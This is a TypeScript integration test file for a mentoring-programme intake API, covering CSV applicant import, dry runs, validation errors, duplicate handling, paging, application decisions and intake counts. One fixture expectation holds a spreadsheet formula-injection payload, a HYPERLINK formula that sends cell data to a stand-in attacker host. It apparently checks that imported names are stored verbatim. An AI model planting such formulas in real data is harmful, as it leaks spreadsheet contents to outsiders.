import { randomUUID } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { handler } from '#functions/intake-api/handler.ts';
import { DynamoCohortStore } from '#shared/adapters/dynamodb/cohort-store.ts';
import { DynamoParticipantStore } from '#shared/adapters/dynamodb/participant-store.ts';
import type { Cohort } from '#shared/domain/cohort.ts';
import type { IntakeCounts } from '#shared/domain/intake-counts.ts';
import type { Application, Participant } from '#shared/domain/participant.ts';
import type { ImportOutcome } from '#shared/use-cases/import-applicants.ts';
import { fixtureText } from '../../fixtures/load.ts';
import { useLocalRuntime } from '../../fixtures/runtime.ts';
import { cohortItemCounts, cohortItems, seedCohort, testDomain } from '../../fixtures/world.ts';
import { type ApiEventInput, apiEvent, coordinator, lambdaContext } from '../../support/handler-events.ts';

// The runtime gives the handler a bus for ApplicantsImported. Intake opens in two days in every
// cohort here, so the intake job it nudges has nothing to send yet.
const local = useLocalRuntime();
const participants = new DynamoParticipantStore();
const me = coordinator();

interface Answer<T> {
  status: number;
  body: T;
}
type ErrorBody = {
  error: { code: string; message: string; problems?: { field: string; message: string }[] };
};

async function call<T = ErrorBody>(input: Omit<ApiEventInput, 'sub'>): Promise<Answer<T>> {
  const reply = await handler(apiEvent({ ...me, ...input }), lambdaContext('mentorflow-intake-api'));
  return { status: reply.statusCode ?? 0, body: JSON.parse(reply.body ?? 'null') as T };
}

const importInto = (cohortId: string, body: Record<string, unknown>) =>
  call<ImportOutcome & ErrorBody>({
    routeKey: 'POST /cohorts/{cohortId}/imports',
    pathParameters: { cohortId },
    body: { importId: `imp-${randomUUID()}`, ...body },
  });

async function storedParticipants(cohortId: string): Promise<Participant[]> {
  const found: Participant[] = [];
  for await (const participant of participants.all(cohortId)) found.push(participant);
  return found;
}

const csv = (name: string, domain: string) => fixtureText(`applicants/${name}`, { domain });

describe('POST /cohorts/{cohortId}/imports', () => {
  it('imports a spreadsheet export as typed: BOM, CRLF, quoted commas, any script, formulas verbatim', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const domain = testDomain();
    const file = csv('spreadsheet-export.csv', domain);
    expect(file.charCodeAt(0)).toBe(0xfeff);
    expect(file).toContain('\r\n');

    // Act
    const answer = await importInto(cohort.cohortId, { csv: file });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({
      committed: true,
      dryRun: false,
      totalRows: 5,
      added: 5,
      alreadyPresent: [],
      problems: [],
    });
    expect(answer.body.warnings).toEqual([expect.stringContaining('favourite_colour')]);
    const byEmail = new Map((await storedParticipants(cohort.cohortId)).map((p) => [p.email, p]));
    expect(byEmail.get(`ana.lima@${domain}`)).toMatchObject({
      name: 'Lima, Ana',
      status: 'invited',
      source: 'import',
      prefill: { seniority: 'mid_career', jobFunction: 'Engineering, platform', timeZone: 'Europe/Lisbon' },
    });
    expect(byEmail.get(`taro@${domain}`)?.name).toBe('山田太郎');
    expect(byEmail.get(`minh@${domain}`)?.name).toBe('Nguyễn Thị Minh');
    expect(byEmail.get(`sergei@${domain}`)?.name).toBe('Сергей Петров');
    expect(byEmail.get(`mallory@${domain}`)?.name).toBe(
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    );
    await local.runtime.drain();
    expect(local.runtime.bus.events).toContainEqual(
      expect.objectContaining({
        'detail-type': 'ApplicantsImported',
        detail: expect.objectContaining({
          data: expect.objectContaining({ cohortId: cohort.cohortId, added: 5 }),
        }),
      }),
    );
  });

  it('writes nothing in a dry run, and says what would happen', async () => {
    // Prepare
    const { cohort, milestones } = await seedCohort();
    const importId = `imp-${randomUUID()}`;

    // Act
    const answer = await importInto(cohort.cohortId, {
      importId,
      csv: csv('small.csv', testDomain()),
      dryRun: true,
    });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ dryRun: true, committed: true, added: 3, totalRows: 3 });
    expect(await cohortItemCounts(cohort.cohortId)).toEqual({ cohort: 1, milestone: milestones.length });
    const progress = await call({
      routeKey: 'GET /cohorts/{cohortId}/imports/{importId}',
      pathParameters: { cohortId: cohort.cohortId, importId },
    });
    expect(progress.status).toBe(404);
  });

  it('answers 422 listing each row problem by line and column, and writes nothing', async () => {
    // Prepare
    const { cohort, milestones } = await seedCohort();

    // Act
    const answer = await importInto(cohort.cohortId, { csv: csv('row-problems.csv', testDomain()) });

    // Assess
    expect(answer.status).toBe(422);
    expect(answer.body).toMatchObject({ committed: false, added: 0, totalRows: 4 });
    expect(answer.body.problems).toEqual([
      expect.objectContaining({ line: 3, column: 'email', value: 'not-an-email' }),
      expect.objectContaining({ line: 4, column: 'email', message: expect.stringContaining('row 2') }),
    ]);
    expect(await cohortItemCounts(cohort.cohortId)).toEqual({ cohort: 1, milestone: milestones.length });
  });

  it('imports the good rows and reports the others when allowPartial is set', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const domain = testDomain();

    // Act
    const answer = await importInto(cohort.cohortId, {
      csv: csv('row-problems.csv', domain),
      allowPartial: true,
    });

    // Assess
    expect(answer.status).toBe(200);
    expect(answer.body).toMatchObject({ committed: true, added: 2 });
    expect(answer.body.problems).toHaveLength(2);
    expect((await storedParticipants(cohort.cohortId)).map((p) => p.email).sort()).toEqual([
      `good.one@${domain}`,
      `good.two@${domain}`,
    ]);
  });

  it('skips people already in the cohort and lists them as alreadyPresent', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const file = csv('small.csv', testDomain());
    await importInto(cohort.cohortId, { csv: file });

    // Act: the same file as someone retyped it in capitals.
    const again = await importInto(cohort.cohortId, { csv: file.toUpperCase() });

    // Assess
    expect(again.status).toBe(200);
    expect(again.body.added).toBe(0);
    expect(again.body.alreadyPresent.map((row) => row.line)).toEqual([2, 3, 4]);
    expect(await storedParticipants(cohort.cohortId)).toHaveLength(3);
  });

  it('answers 409 to a second import under the same id and writes nothing more', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const importId = `imp-${randomUUID()}`;
    await importInto(cohort.cohortId, { importId, csv: csv('small.csv', testDomain()) });

    // Act: the same id, with other people in it.
    const again = await importInto(cohort.cohortId, {
      importId,
      csv: csv('spreadsheet-export.csv', testDomain()),
    });

    // Assess
    expect(again).toMatchObject({ status: 409, body: { error: { code: 'conflict' } } });
    expect(await storedParticipants(cohort.cohortId)).toHaveLength(3);
  });

  it('answers 400 naming the header when a required column is missing', async () => {
    const { cohort, milestones } = await seedCohort();

    const answer = await importInto(cohort.cohortId, { csv: csv('missing-columns.csv', testDomain()) });

    expect(answer.status).toBe(400);
    const problems = answer.body.error.problems ?? [];
    expect(problems.map((p) => p.field)).toEqual(['header', 'header']);
    expect(problems.map((p) => p.message)).toEqual([
      expect.stringContaining('no "email" column'),
      expect.stringContaining('no "name" column'),
    ]);
    expect(await cohortItemCounts(cohort.cohortId)).toEqual({ cohort: 1, milestone: milestones.length });
  });

  it('answers 400 naming importId when it is not one a client may choose', async () => {
    const { cohort } = await seedCohort();

    const answer = await importInto(cohort.cohortId, { importId: 'x', csv: csv('small.csv', testDomain()) });

    expect(answer.status).toBe(400);
    expect(answer.body.error.problems?.map((p) => p.field)).toEqual(['importId']);
  });

  it('answers 409 once intake has closed, and writes nothing', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const cohorts = new DynamoCohortStore();
    await cohorts.transition(await cohorts.transition(cohort, 'intake_open'), 'intake_closed');

    // Act
    const answer = await importInto(cohort.cohortId, { csv: csv('small.csv', testDomain()) });

    // Assess
    expect(answer).toMatchObject({ status: 409, body: { error: { code: 'conflict' } } });
    expect(answer.body.error.message).toContain('closed');
    expect((await cohortItems(cohort.cohortId)).filter((item) => item.type === 'participant')).toEqual([]);
  });

  it('answers 404 for a cohort that does not exist', async () => {
    const answer = await importInto('coh_nope', { csv: csv('small.csv', testDomain()) });

    expect(answer.status).toBe(404);
  });
});

describe('GET /cohorts/{cohortId}/imports/{importId}', () => {
  it('shows how an import went', async () => {
    // Prepare
    const { cohort } = await seedCohort();
    const importId = `imp-${randomUUID()}`;
    await importInto(cohort.cohortId, {
      importId,
      csv: csv('row-problems.csv', testDomain()),
      allowPartial: true,
    });

    // Act
    const answer = await call({
      routeKey: 'GET /cohorts/{cohortId}/imports/{importId}',
      pathParameters: { cohortId: cohort.cohortId, importId },
    });

    // Assess
    expect(answer).toMatchObject({
      status: 200,
      body: {
        importId,
        cohortId: cohort.cohortId,
        status: 'done',
        totalRows: 4,
        processed: 4,
        added: 2,
        problems: 2,
        alreadyPresent: 0,
      },
    });
  });
});

/** A cohort of three imported people, two of whom applied. */
async function cohortWithApplicants(): Promise<{ cohort: Cohort; people: Participant[] }> {
  const { cohort } = await seedCohort();
  await importInto(cohort.cohortId, { csv: csv('small.csv', testDomain()) });
  const people = (await storedParticipants(cohort.cohortId)).sort((a, b) => a.name.localeCompare(b.name));
  const [first, second] = people as [Participant, Participant, Participant];
  const application = (name: string, changes: Partial<Application>): Application => ({
    name,
    seeks: [],
    offers: [],
    goals: [],
    skills: [],
    seniority: 'senior',
    hasInfluence: false,
    timeZone: 'UTC',
    answers: {},
    agreedToProgramConsent: true,
    submittedAt: new Date().toISOString(),
    updatedAt: new Date().toISOString(),
    ...changes,
  });
  await participants.saveApplication(
    first,
    application(first.name, { seeks: ['mentor'], offers: [{ role: 'coach', capacity: 2 }] }),
  );
  await participants.saveApplication(second, application(second.name, { seeks: ['mentor', 'sponsor'] }));
  return {
    cohort,
    people: (await storedParticipants(cohort.cohortId)).sort((a, b) => a.name.localeCompare(b.name)),
  };
}

describe('GET /cohorts/{cohortId}/applications', () => {
  const list = (cohortId: string, query: Record<string, string>) =>
    call<{ participants: Participant[]; nextCursor?: string } & ErrorBody>({
      routeKey: 'GET /cohorts/{cohortId}/applications',
      pathParameters: { cohortId },
      queryStringParameters: query,
    });

  it('pages through the applicants with a cursor', async () => {
    // Prepare
    const { cohort, people } = await cohortWithApplicants();

    // Act
    const first = await list(cohort.cohortId, { limit: '2' });
    const second = await list(cohort.cohortId, { limit: '2', cursor: first.body.nextCursor! });

    // Assess
    expect(first.status).toBe(200);
    expect(first.body.participants).toHaveLength(2);
    expect(second.body.participants).toHaveLength(1);
    expect(second.body.nextCursor).toBeUndefined();
    const seen = [...first.body.participants, ...second.body.participants].map((p) => p.participantId);
    expect(seen.sort()).toEqual(people.map((p) => p.participantId).sort());
  });

  it('filters by status', async () => {
    const { cohort } = await cohortWithApplicants();

    const applied = await list(cohort.cohortId, { status: 'applied' });

    expect(applied.body.participants.map((p) => p.name).sort()).toEqual(['First Person', 'Second Person']);
  });

  it('answers 400 naming the cursor when it was given out for another cohort', async () => {
    // Prepare: a client mixes up the cursors of two cohorts it pages through.
    const { cohort: other } = await cohortWithApplicants();
    const cursor = (await list(other.cohortId, { limit: '1' })).body.nextCursor!;
    const { cohort } = await cohortWithApplicants();

    // Act
    const answer = await list(cohort.cohortId, { limit: '1', cursor });

    // Assess: bad input is a 4xx naming the field, never a 500.
    expect(answer.status).toBe(400);
    expect(answer.body.error.problems?.map((p) => p.field)).toEqual(['cursor']);
  });

  it('answers 400 naming a limit or status it cannot use', async () => {
    const { cohort } = await seedCohort();

    const answer = await list(cohort.cohortId, { limit: '0', status: 'maybe' });

    expect(answer.status).toBe(400);
    expect(answer.body.error.problems?.map((p) => p.field).sort()).toEqual(['limit', 'status']);
  });
});

describe('POST /cohorts/{cohortId}/applications/{participantId}/decision', () => {
  const decide = (cohortId: string, participantId: string, decision: string) =>
    call<Participant & ErrorBody>({
      routeKey: 'POST /cohorts/{cohortId}/applications/{participantId}/decision',
      pathParameters: { cohortId, participantId },
      body: { decision },
    });

  it('approves and declines applications, and lets a decision be changed', async () => {
    // Prepare
    const { cohort, people } = await cohortWithApplicants();
    const [first, second] = people as [Participant, Participant];

    // Act
    const approved = await decide(cohort.cohortId, first.participantId, 'approve');
    const declined = await decide(cohort.cohortId, second.participantId, 'decline');
    const changed = await decide(cohort.cohortId, second.participantId, 'approve');

    // Assess
    expect(approved).toMatchObject({
      status: 200,
      body: { status: 'approved', decidedAt: expect.any(String) },
    });
    expect(declined.body.status).toBe('declined');
    expect(changed.body.status).toBe('approved');
    expect((await participants.get(cohort.cohortId, second.participantId))?.status).toBe('approved');
  });

  it('answers 409 for someone who has not applied, and leaves them invited', async () => {
    const { cohort, people } = await cohortWithApplicants();
    const invitee = people.find((p) => p.status === 'invited')!;

    const answer = await decide(cohort.cohortId, invitee.participantId, 'approve');

    expect(answer).toMatchObject({ status: 409, body: { error: { code: 'conflict' } } });
    expect((await participants.get(cohort.cohortId, invitee.participantId))?.status).toBe('invited');
  });

  it('answers 404 for an unknown applicant and 400 for an unknown decision', async () => {
    const { cohort, people } = await cohortWithApplicants();

    const unknown = await decide(cohort.cohortId, 'ppl_nope', 'approve');
    const maybe = await decide(cohort.cohortId, people[0]!.participantId, 'maybe');

    expect(unknown.status).toBe(404);
    expect(maybe.status).toBe(400);
    expect(maybe.body.error.problems?.map((p) => p.field)).toEqual(['decision']);
  });
});

describe('GET /cohorts/{cohortId}/intake', () => {
  it('counts people by status and support by role, leaving declined applications out', async () => {
    // Prepare: First seeks a mentor and offers coaching for 2; Second seeks a mentor and a sponsor.
    const { cohort, people } = await cohortWithApplicants();
    const [first, second] = people as [Participant, Participant];
    await participants.decide(first, 'approved', new Date());

    // Act
    const before = await call<{ cohort: Cohort; counts: IntakeCounts }>({
      routeKey: 'GET /cohorts/{cohortId}/intake',
      pathParameters: { cohortId: cohort.cohortId },
    });
    await participants.decide(second, 'declined', new Date());
    const after = await call<{ cohort: Cohort; counts: IntakeCounts }>({
      routeKey: 'GET /cohorts/{cohortId}/intake',
      pathParameters: { cohortId: cohort.cohortId },
    });

    // Assess
    expect(before.status).toBe(200);
    expect(before.body.cohort.cohortId).toBe(cohort.cohortId);
    expect(before.body.counts).toMatchObject({
      byStatus: { invited: 1, applied: 1, approved: 1, declined: 0 },
      seeking: { mentor: 2, sponsor: 1, coach: 0 },
      offering: { coach: { people: 1, places: 2 }, mentor: { people: 0, places: 0 } },
      bothWays: 1,
    });
    expect(after.body.counts).toMatchObject({
      byStatus: { invited: 1, applied: 0, approved: 1, declined: 1 },
      seeking: { mentor: 1, sponsor: 0 },
    });
  });

  it('answers 403 to a caller who is not a coordinator', async () => {
    const { cohort } = await seedCohort();

    const answer = await call({
      routeKey: 'GET /cohorts/{cohortId}/intake',
      pathParameters: { cohortId: cohort.cohortId },
      groups: ['participants'],
    });

    expect(answer.status).toBe(403);
  });
});
